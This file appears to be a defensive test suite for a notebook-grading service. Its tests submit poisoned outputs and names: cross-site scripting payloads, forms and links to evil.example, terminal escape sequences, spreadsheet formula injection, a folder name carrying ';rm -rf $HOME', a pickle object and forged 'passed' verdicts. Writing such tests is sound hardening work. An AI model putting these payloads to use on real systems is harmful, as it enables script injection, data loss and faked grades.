"""Attempts to poison what is read afterwards: results, feedback pages, reports, tables, terminals."""

from tests.attacks.earn import CHANNEL
from tests.attacks.workshop import ARMED, EVERYTHING, OTHERS, attack

SCRIPT = "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">"

# Pages


@attack("poison", EVERYTHING, shows="IPython.core.display.HTML object")
def active_html(desk):
    """Shows HTML that runs scripts, sends forms, loads frames and images from elsewhere, and covers the page."""
    desk.solve()
    desk.add(f"""
from IPython.display import HTML, Javascript, Markdown, SVG, IFrame, Latex
display(HTML({SCRIPT!r} + "<b>ordinary text</b>"))
display(HTML('<svg onload="alert(1)"><script>document.title=2</script><a href="javascript:alert(1)">x</a></svg>'))
display(HTML('<iframe srcdoc="<script>parent.alert(1)</script>"></iframe><object data="data:text/html,x"></object>'))
display(HTML('<form action="https://evil.example/"><input name=q><button formaction="javascript:x">go</button></form>'))
display(HTML('<a href=" jav&#x09;ascript:x()">a</a><math><mtext><style><img src onerror=x()></style></mtext></math>'))
display(HTML('<div style="position:fixed;inset:0;z-index:9999;background:url(https://evil.example/seen)">covered</div>'))
display(HTML('<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">'))
display(HTML('<link rel=stylesheet href="https://evil.example/x.css"><style>@import "https://evil.example/y.css";</style>'))
display(HTML('<img src="https://evil.example/pixel.png"><video src="https://evil.example/v"></video>'))
""")


@attack("poison", EVERYTHING, shows="ordinary text")
def other_kinds_of_output(desk):
    """The same as JavaScript, Markdown, LaTeX, SVG and types of its own, beside an ordinary text."""
    desk.solve()
    desk.add(f"""
script = {SCRIPT!r}
kinds = ["application/javascript", "text/javascript", "text/markdown", "text/latex", "image/svg+xml", "text/html",
         "application/vnd.jupyter.widget-view+json", "application/vnd.custom+json", "application/x-evil", "video/mp4"]
for kind in kinds:
    display({{kind: script, "text/plain": "ordinary text"}}, raw=True)
display({{"text/markdown": "[a](javascript:alert(1)) ![b](https://evil.example/p) " + script}}, raw=True)
display({{"text/latex": r"$\\href{{javascript:alert(1)}}{{x}}$ " + script}}, raw=True)
svg = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(2)</script></svg>"
display({{"image/svg+xml": svg}}, raw=True)
display({{"image/png": '"><script>alert(1)</script>'}}, raw=True)
""")


@attack("poison", EVERYTHING, shows=ARMED)
def escape_sequences(desk):
    """Writes sequences that move a terminal's cursor, set its title and clipboard, and end a page's text."""
    desk.solve()
    desk.trick("""
print("\\x1b[2J\\x1b[H\\x1b]0;owned\\x07\\x1b]52;c;b3duZWQ=\\x07\\x9b31m")
print("\\u202eevil\\u202c\\x00\\x08\\x7f</pre><script>alert(1)</script>")
import sys
print("\\x1b]8;;javascript:alert(1)\\x1b\\\\click\\x1b]8;;\\x1b\\\\", file=sys.stderr)
""")


@attack("poison", OTHERS, verdict="error")
def html_in_an_error(desk):
    """Raises an error whose name and text are HTML."""
    desk.answer(f"""
def softmax(scores, dim):
    raise type({SCRIPT!r}, (Exception,), {{}})('`</code></div></pre>' + {SCRIPT!r} + '`')
""")


@attack("poison", OTHERS, verdict="wrong", says="is a ")
def html_in_the_kind_of_a_result(desk):
    """Returns an object whose class is called like a script."""
    desk.answer(f"def softmax(scores, dim):\n    return type({SCRIPT!r}, (), {{}})()")


@attack("poison", EVERYTHING, raises="ValueError")
def html_in_the_source(desk):
    """Ends the page's text in code, comments, tracebacks and Markdown of its own."""
    desk.solve()
    desk.add(f"# </pre></div></script> {SCRIPT}\n'''{SCRIPT}'''\nraise ValueError({SCRIPT!r})")
    desk.notebook["cells"].insert(
        0, {"cell_type": "markdown", "id": "mine", "metadata": {}, "source": f"# {SCRIPT}\n[x](javascript:alert(1))"}
    )
    desk.notebook["metadata"] |= {"title": SCRIPT, "authors": [{"name": SCRIPT}], "widgets": {"x": SCRIPT}}
    desk.notebook["metadata"]["kernelspec"] = {"name": "../../evil", "display_name": SCRIPT, "language": "sh"}


@attack("poison", OTHERS, verdict="error")
def formulas_in_an_error(desk):
    """An error that a spreadsheet would compute."""
    desk.answer(
        "class x(Exception): pass\nx.__name__ = '=HYPERLINK(\"https://evil.example\")'\n"
        "def softmax(scores, dim):\n    raise x('\\n=1+1\\t@SUM(1)\\r\\n+1,-1;\"=cmd|x\"!A0')"
    )


@attack("poison", folder="=HYPERLINK(1+1)", entered=r"HYPERLINK-1\+1(-\w+)?")
def formula_as_a_name(desk):
    """Is called like a formula of a spreadsheet."""


@attack("poison", folder="+1+1", entered=r"1\+1(-\w+)?")
def sum_as_a_name(desk):
    """Is called like a sum."""


@attack("poison", folder="@SUM(A1)", entered=r"SUM-A1(-\w+)?")
def function_as_a_name(desk):
    """Is called like a function."""


@attack("poison", folder="<img src=x onerror=alert(1)>", entered=r"img-src-x-onerror-alert-1(-\w+)?")
def html_as_a_name(desk):
    """Is called like HTML."""


@attack("poison", folder=";rm -rf $HOME `id`", entered=r"rm--rf-HOME-id(-\w+)?")
def command_as_a_name(desk):
    """Is called like a command and a path."""


@attack("poison", folder="\u202e\x1b[31mevil\n,x", entered=r"31mevil-x(-\w+)?")
def escape_as_a_name(desk):
    """Is called like what turns a terminal around, with a line break and a comma."""


# Results


@attack("poison", OTHERS, verdict="error", says="more than any exercise asks for")
def oversized_array(desk):
    """Returns ten million numbers."""
    desk.answer("def softmax(scores, dim):\n    return torch.zeros(10_000_000)")


@attack("poison", OTHERS, verdict="error", says="more than any exercise asks for")
def expanded_array(desk):
    """Returns a tensor that claims a million million numbers and holds one."""
    desk.answer("def softmax(scores, dim):\n    return torch.zeros(1).expand(10**6, 10**6)")


@attack("poison", OTHERS, verdict="wrong", says="is a ndarray")
def array_of_objects(desk):
    """Returns an array of objects, which elsewhere would be unpickled."""
    desk.answer("""
import numpy as np
class Evil:
    def __reduce__(self):
        return print, ("owned",)
def softmax(scores, dim):
    return np.array([Evil()] * 24, object).reshape(2, 3, 4)
""")


@attack("poison", OTHERS, verdict="error|wrong")
def sparse_complex_quantised(desk):
    """Returns a different odd kind of tensor at each call."""
    desk.answer("""
calls = []
def softmax(scores, dim):
    calls.append(None)
    odd = [lambda: scores.to_sparse(), lambda: scores.to(torch.complex64), lambda: scores.to("meta"),
           lambda: torch.quantize_per_tensor(scores.float(), 0.1, 0, torch.qint8), lambda: torch.zeros(2, 3, 0),
           lambda: torch.nested.nested_tensor([scores, scores]), lambda: scores.to(torch.float8_e4m3fn)]
    return odd[len(calls) % len(odd)]()
""")


@attack("poison", OTHERS, verdict="timeout|error")
def endless_generator(desk):
    """Returns a list that never ends."""
    desk.answer("""
class Endless(list):
    def __iter__(self):
        while True:
            yield 1.0
    def __len__(self):
        return 2
def softmax(scores, dim):
    return Endless([1.0, 2.0])
""")


@attack("poison", OTHERS, verdict="wrong|error")
def nested_lists(desk):
    """Returns lists within lists, and one that holds itself."""
    desk.answer("""
def softmax(scores, dim):
    deep = [1.0]
    deep.append(deep)
    return deep
""")


@attack("poison", OTHERS, verdict="wrong|error")
def disguised_object(desk):
    """Returns an object that says that it is a tensor, and raises or lies in each method."""
    desk.answer("""
class Disguised:
    __class__ = torch.Tensor
    layout, dtype = torch.strided, torch.float64
    def __getattr__(self, name):
        return lambda *given, **named: self
    def numpy(self):
        raise SystemExit(0)
def softmax(scores, dim):
    return Disguised()
""")


@attack("poison", OTHERS, verdict="wrong", says="NaN|values")
def numbers_at_the_border(desk):
    """Returns infinities, denormals and the largest numbers there are."""
    desk.answer("""
import itertools, sys
odd = itertools.cycle([float("inf"), -float("inf"), 5e-324, sys.float_info.max, -sys.float_info.max, -0.0])
def softmax(scores, dim):
    return torch.tensor([next(odd) for _ in range(scores.numel())]).reshape(scores.shape)
""")


@attack("poison", OTHERS, verdict="wrong|error")
def integers_at_the_border(desk):
    """Returns integers that no float holds."""
    desk.answer(
        "import numpy as np\ndef softmax(scores, dim):\n    return np.full(tuple(scores.shape), 2**64 - 1, np.uint64)"
    )


@attack("poison", OTHERS, verdict="error")
def huge_error(desk):
    """Raises an error of ten million characters, with half characters and zeros in it."""
    desk.answer("def softmax(scores, dim):\n    raise ValueError('\\ud800\\x00' + 'x' * 10**7)")


@attack("poison", OTHERS, verdict="error")
def error_that_cannot_be_shown(desk):
    """Raises an error that raises when it is shown."""
    desk.answer("""
class Evil(Exception):
    def __str__(self):
        raise SystemExit
    __repr__ = __str__
def softmax(scores, dim):
    raise Evil
""")


def _lying(header: str) -> str:
    return (
        CHANNEL
        + f"""
def softmax(scores, dim):
    head = json.dumps({header}).encode()
    body = struct.pack("<Q", len(head)) + head + bytes(8)
    answer = dict(type="outcome", exercise="_answer_softmax", seed=stack_value("seed"), others={{}}, failure=None,
                  changed=[], digest="", printed="")
    channel.sendall(frame(answer, body))
    time.sleep(30)
"""
    )


@attack("poison", verdict="error", says="could not be read")
def lying_shapes(desk):
    """Sends arrays whose shapes don't fit their bytes. What follows on the wire can't be trusted: it ends there."""
    desk.solve()
    desk.cell("exercise", "softmax")["source"] = _lying(
        '{"last": {"dtype": "F64", "shape": [1048576, 1048576], "data_offsets": [0, 8]}}'
    )


@attack("poison", verdict="error|wrong|timeout")
def lying_sizes(desk):
    """Sends an array of no element whose axes are larger than any memory."""
    desk.solve()
    desk.cell("exercise", "softmax")["source"] = _lying(
        '{"last": {"dtype": "F64", "shape": [0, 4611686018427387904], "data_offsets": [0, 0]},'
        ' "x": {"dtype": "F64", "shape": [1], "data_offsets": [0, 8]}}'
    )


@attack("poison", verdict="error|wrong|timeout")
def forged_failure(desk):
    """Sends a failure whose parts are HTML, half characters, and very long."""
    desk.solve()
    desk.cell("exercise", "softmax")["source"] = (
        CHANNEL
        + """
def softmax(scores, dim):
    evil = "<script>\\ud800\\x00</script>" * 500
    failure = {"kind": evil, "message": evil, "traceback": evil, "verdict": "error"}
    channel.sendall(frame(dict(type="outcome", exercise="_answer_softmax", seed=stack_value("seed"), failure=failure,
        others={evil: evil}, changed=[10**300], digest=evil, printed=evil)))
    time.sleep(1)
"""
    )


# Lines and frames


@attack("poison", OTHERS, verdict="error")
def rows_in_an_error(desk):
    """An error whose text would be rows of the table for a reader that ends lines at a carriage return."""
    desk.answer(
        "def softmax(scores, dim):\n"
        "    raise ValueError('\\rhonest-middle,00_weighted_average,softmax,9,9,,\\r=1+1\\r\\n+1\\x0b-1\\u2028@x')"
    )


@attack("poison", OTHERS, verdict="error")
def the_checks_own_words_in_an_error(desk):
    """An error one line of which looks like the check's own."""
    desk.answer("def softmax(scores, dim):\n    raise ValueError('x\\n✓ softmax: passed (2 of 2 points)')")


@attack("poison", OTHERS, verdict="error")
def orders_to_a_terminal_in_an_error(desk):
    """An error whose text a terminal obeys: colours, title, clipboard, links, the direction of writing."""
    desk.answer(
        "def softmax(scores, dim):\n"
        "    raise ValueError('\\x1b[2J\\x1b]0;owned\\x07\\x1b]52;c;b3\\x07\\x9b31m\\x1bc\\u202eevil\\u2066\\x00\\x08')"
    )


@attack("poison", OTHERS, verdict="error")
def a_very_long_error(desk):
    """An error as long as it may be: readers of tables stop at 131,072 characters."""
    desk.answer("def softmax(scores, dim):\n    raise ValueError('`x` ' * 100_000)")


@attack("poison", OTHERS, verdict="error")
def formulas_for_a_page_in_an_error(desk):
    """TeX, which a page of Jupyter's would typeset."""
    desk.answer(
        "def softmax(scores, dim):\n    raise ValueError(r'$\\href{https://evil.example}{x}$ \\(x\\) \\begin{x} $$y$$')"
    )


@attack("poison", EVERYTHING, shows=ARMED)
def a_picture_of_a_passed_card(desk):
    """Shows what looks like the page's own verdict, as a picture and as text."""
    desk.solve()
    desk.trick("""
import matplotlib.pyplot as plt
plt.figure(figsize=(6, 1))
plt.text(0, 0.5, "✓ passed   softmax   2 of 2 points")
plt.axis("off")
plt.show()
print("✓ softmax: passed (2 of 2 points)")
""")


@attack("poison", EVERYTHING)
def controls_in_the_source(desk):
    """Code with characters that turn the direction of writing around, and others that are not seen."""
    desk.solve()
    desk.add("x = 1  # \u202e} \u2066if is_admin\u2069 \u2066 begin admins only\ny = '\x1b[31m\x07\u2028\u200b'\n")
